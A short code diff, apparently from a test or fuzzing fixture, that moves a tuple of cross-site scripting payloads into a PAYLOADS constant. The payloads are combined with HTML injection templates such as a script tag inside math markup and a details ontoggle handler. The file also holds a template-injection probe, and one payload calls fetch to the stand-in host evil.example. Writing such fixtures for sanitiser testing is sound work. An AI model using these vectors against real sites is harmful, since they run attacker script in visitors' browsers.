@@ -2,6 +2,7 @@
 
 import itertools
 
+PAYLOADS = ("alert(1)", "alert`1`", "top.x=1", "fetch(`//evil.example`)")
 MARKUP = [
     template.format(payload)
     for template in (
@@ -18,7 +19,7 @@ MARKUP = [
         "<math><mtext><script>{}</script>",
         "<details open ontoggle={}>",
     )
-    for payload in ("alert(1)", "alert`1`", "top.x=1", "fetch(`//evil.example`)")
+    for payload in PAYLOADS
 ]
 TEMPLATES = [
     "{{ 7*7 }}",
